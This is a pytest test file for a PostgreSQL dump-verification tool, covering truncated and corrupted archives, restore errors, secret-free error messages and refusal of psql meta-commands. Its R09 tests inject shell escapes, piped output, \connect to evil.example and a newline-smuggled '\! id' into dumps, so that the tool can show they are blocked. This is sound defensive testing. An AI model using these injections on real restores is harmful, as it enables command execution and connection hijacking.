"""Dumps of other tools that went bad in silence (S01-S03, R03, R09): each is found, and innocent twins are not."""

from __future__ import annotations

import gzip
import os
import re
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from dbops.engine.postgres import foreign_facts, foreign_psql, tools
from dbops.engine.postgres.foreign_script import Kind, Piece
from dbops.errors import PreflightError
from dbops.model import Failure, Report, Severity, Verdict
from tests.foreign_dumps import PACK, drill, dump, errors, fill, only
from tests.servers import Cluster


@pytest.fixture(scope="module")
def source(pg_server: Cluster) -> Iterator[Cluster]:
    with Cluster(pg_server.installation) as cluster:
        fill(cluster)
        yield cluster


@pytest.fixture(scope="module")
def sandbox(pg_server: Cluster) -> Iterator[Cluster]:
    with Cluster(pg_server.installation) as cluster:
        yield cluster


@pytest.fixture(scope="module")
def plain(source: Cluster, tmp_path_factory: pytest.TempPathFactory) -> bytes:
    return dump(source, tmp_path_factory.mktemp("plain") / "dump").read_bytes()


@pytest.fixture(scope="module")
def custom(source: Cluster, tmp_path_factory: pytest.TempPathFactory) -> bytes:
    return dump(source, tmp_path_factory.mktemp("custom") / "dump", "--format=custom").read_bytes()


@pytest.fixture(scope="module")
def cluster_dump(source: Cluster, tmp_path_factory: pytest.TempPathFactory) -> bytes:
    return dump(source, tmp_path_factory.mktemp("all") / "dump", tool="pg_dumpall").read_bytes()


@pytest.fixture
def of(tmp_path: Path, sandbox: Cluster) -> Callable[[bytes], Report]:
    """The drill of these bytes."""

    def work(data: bytes) -> Report:
        path = tmp_path / "dump.sql"
        path.write_bytes(data)
        return drill(path, sandbox)

    return work


def is_bad(report: Report, kind: str) -> str:
    assert (report.verdict, report.failure) == (Verdict.FAIL, Failure.BAD_BACKUP), (
        report.findings,
        report.not_evaluated,
    )
    assert errors(report) == [kind], report.findings
    return only(report, kind).actual


def lacks(report: Report, kind: str) -> str:
    assert (report.verdict, report.failure) == (Verdict.INCONCLUSIVE, Failure.ENVIRONMENT), report.findings
    reasons = {item.id: item.reason for item in report.not_evaluated}
    assert kind in reasons, reasons
    return reasons[kind]


# --- cut ------------------------------------------------------------------------------------------------------------


def cuts(data: bytes) -> dict[str, int]:
    """Where a plain dump may be cut, so that what is left looks well."""
    last = data.rindex(b"\n\\.\n") + 4
    return {
        "after the last row": last,
        "between two statements": data.index(b";\n", last) + 2,
        "before the trailer": data.rindex(b"--\n-- PostgreSQL database dump complete"),
        "in the midst of rows": data.index(b"COPY public.invoices") + 5000,
        "in the midst of a row": data.index(b"COPY public.invoices") + 5003,
        "in the midst of a function": data.index(b"echo from a function"),
        "in the head": 300,
        "in the trailer": data.rindex(b"dump complete") + 4,
    }


@pytest.mark.parametrize(
    "where", cuts(b"\n\\.\n;\n--\n-- PostgreSQL database dump complete COPY public.invoices echo from a function")
)
@pytest.mark.parametrize("packing", ["none", "gzip", "xz"])
def test_s03_a_script_that_was_cut_and_then_packed(
    where: str, packing: str, plain: bytes, of: Callable[[bytes], Report]
) -> None:
    said = is_bad(of(PACK[packing](plain[: cuts(plain)[where]])), "archive-truncated")
    assert "without the line '-- PostgreSQL database dump complete'" in said
    assert re.search(r"ends at line \d+", said)


@pytest.mark.parametrize("packing", ["gzip", "zstd", "xz"])
@pytest.mark.parametrize("form", ["plain", "custom"])
@pytest.mark.parametrize("left", [0.1, 0.5, 0.999])
def test_a_packed_dump_that_was_cut(
    form: str, packing: str, left: float, plain: bytes, custom: bytes, of: Callable[[bytes], Report]
) -> None:
    data = PACK[packing](plain if form == "plain" else custom)
    assert is_bad(of(data[: int(len(data) * left)]), "archive-truncated")


@pytest.mark.parametrize("left", [50, 0.3, 0.6, 0.95, -100, -5])
def test_s01_a_custom_archive_that_was_cut(left: float, custom: bytes, of: Callable[[bytes], Report]) -> None:
    end = int(left) if abs(left) >= 1 else int(len(custom) * left)
    assert is_bad(of(custom[:end]), "archive-truncated")


def test_a_whole_server_that_was_cut_after_one_of_its_databases(
    cluster_dump: bytes, of: Callable[[bytes], Report]
) -> None:
    end = cluster_dump.rindex(b"-- PostgreSQL database dump complete\n") + 37
    assert "cluster dump complete" in is_bad(of(cluster_dump[:end]), "archive-truncated")


def test_a_second_dump_behind_a_whole_one_that_was_cut(plain: bytes, of: Callable[[bytes], Report]) -> None:
    """`pg_dump one >> all.sql; pg_dump two >> all.sql`: the first one's trailer does not count for the second."""
    assert is_bad(of(plain + plain[: plain.index(b"CREATE TABLE")]), "archive-truncated")


def test_a_folder_without_one_of_its_files(source: Cluster, sandbox: Cluster, tmp_path: Path) -> None:
    folder = dump(source, tmp_path / "folder", "--format=directory")
    max(folder.glob("*.dat.gz"), key=lambda path: path.stat().st_size).unlink()
    report = drill(folder, sandbox)
    assert (report.verdict, report.failure) == (Verdict.FAIL, Failure.BAD_BACKUP), report.not_evaluated


# --- changed --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("packing", ["gzip", "xz"])
@pytest.mark.parametrize("at", [0.2, 0.5, 0.9])
def test_s02_a_flipped_byte_in_a_packed_dump(
    packing: str, at: float, plain: bytes, of: Callable[[bytes], Report]
) -> None:
    data = bytearray(PACK[packing](plain))
    data[int(len(data) * at)] ^= 0x55
    report = of(bytes(data))
    assert (report.verdict, report.failure) == (Verdict.FAIL, Failure.BAD_BACKUP)
    assert set(errors(report)) <= {"archive-corrupt", "archive-truncated"}


@pytest.mark.parametrize("at", [0.5, 0.8])
def test_s02_a_flipped_byte_in_a_compressed_archive(at: float, custom: bytes, of: Callable[[bytes], Report]) -> None:
    data = bytearray(custom)
    data[int(len(data) * at)] ^= 0x55
    report = of(bytes(data))
    assert (report.verdict, report.failure) == (Verdict.FAIL, Failure.BAD_BACKUP), report.not_evaluated


def test_bytes_behind_the_end(plain: bytes, of: Callable[[bytes], Report]) -> None:
    assert is_bad(of(gzip.compress(plain) + b"garbage"), "archive-corrupt")


# --- commands of psql (R09) -----------------------------------------------------------------------------------------

COMMANDS = {
    "shell": r"\! touch {}",
    "copy program": r"\copy twins from program 'touch {}'",
    "copy to": r"\copy twins to '{}'",
    "include": r"\i {}",
    "output": r"\o {}",
    "pipe": r"\o |touch {}",
    "setenv": r"\setenv PGHOST elsewhere",
    "set": r"\set x `touch {}`",
    "g pipe": r"SELECT 1 \g |touch {}",
    "gexec": r"SELECT 'x' \gexec",
    "write": r"SELECT 1 \w {}",
    "unrestrict": "\\unrestrict abc\n\\! touch {}",
    "restrict": "\\restrict abc\n\\unrestrict abc\n\\! touch {}",
    "connect elsewhere": r"\connect - - evil.example 5432",
    "connect url": r"\connect postgresql://evil.example/x",
    "connect conninfo": r"""\connect "host=evil.example dbname=x" """,
    "connect reuse": r"""\connect -reuse-previous=on "dbname='x' host=evil.example" """,
    "quit": r"\q",
    "in a line": r"SELECT 1; \! touch {}",
}


@pytest.mark.parametrize("command", COMMANDS)
def test_r09_a_command_of_psql_is_refused_before_anything_runs(
    command: str, plain: bytes, of: Callable[[bytes], Report], tmp_path: Path
) -> None:
    proof = tmp_path / "proof"
    line = COMMANDS[command].replace("{}", str(proof)).encode()
    at = plain.index(b"\nCOPY public.invoices") + 1
    report = of(plain[:at] + line + b"\n" + plain[at:])
    said = is_bad(report, "client-command")
    number = plain.count(b"\n", 0, at) + 1 + (2 if command == "restrict" else 1 if command == "unrestrict" else 0)
    assert f"line {number}" in said
    assert "start" not in report.phases
    assert not proof.exists()


@pytest.mark.parametrize("command", [name for name in COMMANDS if not name.startswith("connect")])
def test_r09_psql_itself_refuses_what_our_reader_lets_through(
    command: str, plain: bytes, of: Callable[[bytes], Report], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The reader thinks that every command is one of pg_dump's statements: it still comes to nothing."""
    real = foreign_psql.ScriptLoad._take

    def careless(self: foreign_psql.ScriptLoad, piece: Piece, me: str) -> None:
        real(self, piece._replace(kind=Kind.MORE) if piece.kind is Kind.COMMAND and piece.line > 20 else piece, me)

    monkeypatch.setattr(foreign_facts.ScriptFacts, "_command", lambda self, piece: None)
    monkeypatch.setattr(foreign_psql.ScriptLoad, "_take", careless)
    proof = tmp_path / "proof"
    line = COMMANDS[command].replace("{}", str(proof)).encode()
    at = plain.index(b"\nCOPY public.invoices") + 1
    report = of(plain[:at] + line + b"\n" + plain[at:])
    assert "psql refused it" in is_bad(report, "client-command")
    assert f"line {plain.count(chr(10).encode(), 0, at) + 1}" in only(report, "client-command").actual
    assert not proof.exists()


def test_r09_a_command_hidden_in_a_whole_server(cluster_dump: bytes, of: Callable[[bytes], Report]) -> None:
    at = cluster_dump.rindex(b"\nCREATE TABLE") + 1
    said = is_bad(of(cluster_dump[:at] + b"\\! id\n" + cluster_dump[at:]), "client-command")
    assert f"line {cluster_dump.count(b'%c' % 10, 0, at) + 1}: \\!" in said


def test_r09_a_command_that_a_dump_with_an_old_pg_dump_smuggles_in_by_a_name(
    plain: bytes, of: Callable[[bytes], Report]
) -> None:
    """CVE-2025-8714: a newline in an object's name ended the comment that it stood in."""
    evil = b"-- Name: innocent\n\\! id\n; Type: TABLE; Schema: public; Owner: app\n--\n"
    at = plain.index(b"--\n-- Name: twins") + 3
    assert is_bad(of(plain[:at] + evil + plain[at:]), "client-command")


def test_twins_are_loaded_as_they_are(plain: bytes, of: Callable[[bytes], Report]) -> None:
    """Function bodies, rows, comments and names that look like commands: `fill` has made them."""
    assert rb"\! echo from a function" in plain
    report = of(plain)
    assert report.verdict is Verdict.PASS, report.findings
    assert report.evidence is not None
    assert next(t.copy_rows for t in report.evidence.tables if t.name == "twins") == 10


def test_windows_line_ends_and_a_byte_order_mark(plain: bytes, of: Callable[[bytes], Report]) -> None:
    """What an editor does to a dump: it is recognised; whether it loads is for psql to say."""
    report = of(b"\xef\xbb\xbf" + plain)
    assert "not-a-dump" not in errors(report)


def test_an_old_psql_is_refused(monkeypatch: pytest.MonkeyPatch, plain: bytes, of: Callable[[bytes], Report]) -> None:
    real = tools.installations
    monkeypatch.setattr(
        foreign_psql, "installations", lambda bindir: [t._replace(major=15, version="15.13") for t in real(bindir)]
    )
    assert "CVE-2025-8714" in lacks(of(plain), "tool-too-old")


# --- errors of the restore ------------------------------------------------------------------------------------------


def test_r03_an_error_in_the_midst_names_its_line_and_no_data(plain: bytes, of: Callable[[bytes], Report]) -> None:
    at = plain.index(b"\nALTER TABLE ONLY public.customers\n") + 1
    secret = b"INSERT INTO public.customers (id, name) VALUES (1, 'hunter2 and other data');\n" * 2
    data = plain[:at] + b"ALTER TABLE public.customers ADD UNIQUE (id);\n" + secret + plain[at:]
    report = of(data)
    said = is_bad(report, "restore-failed")
    assert f"line {plain.count(b'%c' % 10, 0, at) + 2} " in said
    assert "(INSERT INTO public.customers …)" in said
    assert "duplicate key value" in said
    assert "hunter2" not in str(report)
    assert "(1)" not in said


def test_a_row_that_does_not_fit_is_not_shown(plain: bytes, of: Callable[[bytes], Report]) -> None:
    start = plain.index(b"FROM stdin;\n", plain.index(b"COPY public.customers")) + 12
    report = of(plain[:start] + b"hunter2\tcustomer secret\tok\t\\N\n" + plain[start:])
    assert "invalid input syntax for type integer" in is_bad(report, "restore-failed")
    assert "hunter2" not in str(report)
    assert "customer secret" not in str(report)


def test_an_error_in_a_whole_server_names_the_line_in_the_whole_script(
    cluster_dump: bytes, of: Callable[[bytes], Report]
) -> None:
    at = cluster_dump.rindex(b"\nCREATE TABLE") + 1
    report = of(cluster_dump[:at] + b"SELECT no_such_function();\n" + cluster_dump[at:])
    assert f"line {cluster_dump.count(b'%c' % 10, 0, at) + 1} " in is_bad(report, "restore-failed")


def test_a_missing_extension_and_locale_are_not_the_dumps_fault(
    plain: bytes, source: Cluster, of: Callable[[bytes], Report], tmp_path: Path
) -> None:
    at = plain.index(b"\nCREATE TYPE") + 1
    assert "no_such_extension" in lacks(
        of(plain[:at] + b"CREATE EXTENSION IF NOT EXISTS no_such_extension WITH SCHEMA public;\n" + plain[at:]),
        "missing-extension",
    )
    data = dump(source, tmp_path / "created", "--create").read_bytes()
    assert lacks(of(re.sub(rb"LOCALE = '[^']+'", b"LOCALE = 'xx_YY.UTF-8'", data)), "locale")


def test_a_tablespace_is_left_out_and_named(source: Cluster, of: Callable[[bytes], Report], tmp_path: Path) -> None:
    plain = dump(source, tmp_path / "plain").read_bytes()
    spaced = plain.replace(b"SET default_tablespace = '';", b"SET default_tablespace = fast;")
    report = of(spaced)
    assert report.verdict is Verdict.PASS, report.findings
    assert only(report, "missing-tablespace").subject == "fast"
    every = dump(source, tmp_path / "all", tool="pg_dumpall").read_bytes()
    roles = every.index(b"--\n-- Databases")
    space = b"CREATE TABLESPACE \"Fast Disk\" OWNER app LOCATION '/no/such/folder';\n"
    every = every[:roles] + space + every[roles:].replace(b" LOCALE = ", b' TABLESPACE = "Fast Disk" LOCALE = ')
    report = of(every)
    assert report.verdict is Verdict.PASS, (report.findings, report.not_evaluated)
    assert only(report, "missing-tablespace").subject == "Fast Disk"


def test_roles_that_are_not_in_the_dump_are_a_gap_and_not_an_error(
    custom: bytes, plain: bytes, of: Callable[[bytes], Report]
) -> None:
    for data in (custom, plain):
        report = of(data)
        assert report.verdict is Verdict.PASS
        finding = only(report, "roles-not-in-dump")
        assert (finding.severity, finding.subject) == (Severity.WARNING, "Read Only, app")
        assert "roles" in {item.id for item in report.not_evaluated}


def test_what_the_source_may_have_itself_is_a_warning(plain: bytes, of: Callable[[bytes], Report]) -> None:
    data = re.sub(
        rb"setval\('public.customers_id_seq', \d+, true\)", b"setval('public.customers_id_seq', 5, true)", plain
    )
    assert data != plain
    report = of(data)
    assert report.verdict is Verdict.PASS, report.findings
    assert "no inventory" in only(report, "sequence-behind").actual


# --- no dumps at all ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "kind", "word"),
    [
        (b"", "archive-empty", "0 bytes"),
        (gzip.compress(b"", mtime=0), "archive-empty", "gzip"),
        (b"<!DOCTYPE html><html><body>504 Gateway Timeout</body></html>", "not-a-dump", "HTML"),
        (b"<?xml version='1.0'?><Error><Code>AccessDenied</Code></Error>", "not-a-dump", "XML"),
        (bytes(range(256)) * 40, "not-a-dump", "no dump"),
        (b"pg_dump: error: connection to server failed\n", "not-a-dump", "lacks the header"),
        (b"SELECT 1;\n", "not-a-dump", "lacks the header"),
        (b"PGDMP\x01\x0e\x00\x04\x08\x09", "archive-corrupt", "is none"),
        (b"PGDMP\x01\x0e\x00\x04\x08\x01", "archive-truncated", "cut"),
    ],
)
def test_what_is_no_dump_is_called_so(data: bytes, kind: str, word: str, of: Callable[[bytes], Report]) -> None:
    assert word in is_bad(of(data), kind)


def test_random_bytes_are_no_dump(of: Callable[[bytes], Report]) -> None:
    for _ in range(20):
        report = of(os.urandom(3000))
        assert report.verdict is not Verdict.PASS
        assert "start" not in report.phases


@pytest.mark.parametrize(
    ("data", "kind", "word"),
    [
        (b"PK\x03\x04rest", "format-unsupported", "ZIP"),
        (b"age-encryption.org/v1\n-> X25519 abc\n", "encrypted", "age"),
    ],
)
def test_what_cannot_be_read_here_is_named(data: bytes, kind: str, word: str, of: Callable[[bytes], Report]) -> None:
    for packed in (data, gzip.compress(data)):
        assert word in lacks(of(packed), kind)


def test_folders(sandbox: Cluster, tmp_path: Path) -> None:
    folder = tmp_path / "folder"
    folder.mkdir()
    assert errors(drill(folder, sandbox)) == ["archive-empty"]
    (folder / "metadata").write_text("something else")
    assert errors(drill(folder, sandbox)) == ["not-a-dump"]


def test_no_room_to_unpack(
    custom: bytes, sandbox: Cluster, tmp_path: Path, small_tmpfs: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "dump"
    path.write_bytes(gzip.compress(custom))
    monkeypatch.setattr("tempfile.tempdir", str(small_tmpfs("1m")))
    assert "TMPDIR" in lacks(drill(path, sandbox), "no-room")


def test_nothing_is_left_in_the_temporary_folder(
    custom: bytes, sandbox: Cluster, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(scratch))
    path = tmp_path / "dump"
    for data in (gzip.compress(custom), gzip.compress(custom[:3000])):
        path.write_bytes(data)
        drill(path, sandbox)
        assert not list(scratch.iterdir())


def test_this_machines_psql_has_the_restricted_mode(sandbox: Cluster) -> None:
    chosen = foreign_psql.restricted_psql(sandbox.major, None)
    done = subprocess.run(
        [chosen.program("psql"), "-X", "-v", "ON_ERROR_STOP=1", "-f", "-", sandbox.socket_url()],
        input="\\restrict x\n\\! true\n",
        text=True,
        capture_output=True,
    )
    assert done.returncode == 3
    assert "restricted" in done.stderr


def test_a_psql_without_it_is_named(tmp_path: Path) -> None:
    with pytest.raises(PreflightError):
        foreign_psql.restricted_psql(15, tmp_path)
